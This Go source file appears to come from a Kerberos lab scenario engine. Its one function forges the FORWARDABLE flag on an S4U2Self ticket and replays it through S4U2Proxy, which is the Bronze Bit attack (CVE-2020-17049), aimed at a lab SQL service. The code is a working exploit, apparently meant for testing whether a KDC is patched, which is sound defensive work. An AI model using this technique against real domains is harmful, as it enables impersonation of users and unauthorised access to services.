package scenarios

import (
	"context"
	"fmt"

	"github.com/doublehop/doublehop/krb/kdcclient"
	"github.com/doublehop/doublehop/krb/kmsg"
)

// bronzeBit plays CVE-2020-17049 as the web tier's account would: log on
// with the site's keys, S4U2Self for the user (a ticket to itself, not
// forwardable without protocol transition), decrypt it with its own key, set
// FORWARDABLE, re-encrypt, and present it as S4U2Proxy evidence. A patched
// KDC refuses it (the PAC ticket signature, MS-PAC 2.8.3).
func (e *Engine) bronzeBit(ctx context.Context, a action) error {
	if a.pos[0] != "bronze-bit" {
		return fmt.Errorf("unknown attack %q (bronze-bit)", a.pos[0])
	}
	view, err := e.T.View(ctx)
	if err != nil {
		return err
	}
	h := view.Lab.HostByRole("web")
	svc, ok := view.Account(h.RunsAs)
	if !ok {
		return fmt.Errorf("no account %s", h.RunsAs)
	}
	addr, d := e.T.KDC()
	kc := &kdcclient.Client{Addr: addr, Realm: view.Lab.Realm, Dialer: d}
	et := svc.ETypes[0]
	key := svc.Keys[et]
	tgt, err := kc.LoginWithKey(ctx, svc.Name, key, svc.KVNO, []int{kmsg.FlagForwardable})
	if err != nil {
		return fmt.Errorf("logon of %s: %w", svc.Name, err)
	}
	self, err := kc.S4U2Self(ctx, tgt.Credential(), a.userOr("bob"))
	if err != nil {
		return fmt.Errorf("S4U2Self: %w", err)
	}
	etp, err := kmsg.OpenTicket(self.Ticket, svc.Keys[self.Ticket.EncPart.EType])
	if err != nil {
		return fmt.Errorf("decrypting its own S4U2Self ticket: %w", err)
	}
	kmsg.SetFlag(&etp.Flags, kmsg.FlagForwardable) // the Bronze Bit
	forged, err := kmsg.SealTicket(self.Ticket.SName, self.Ticket.Realm, etp, svc.Keys[self.Ticket.EncPart.EType], self.Ticket.EncPart.KVNO)
	if err != nil {
		return err
	}
	ev := self.Credential()
	ev.Ticket = forged
	target := "MSSQLSvc/sql.lab.local:1433"
	if len(svc.Delegation.AllowedTo) > 0 {
		target = svc.Delegation.AllowedTo[0]
	}
	_, err = kc.S4U2Proxy(ctx, tgt.Credential(), ev, target)
	if err != nil {
		return fmt.Errorf("S4U2Proxy with the tampered ticket: %w", err)
	}
	return nil
}
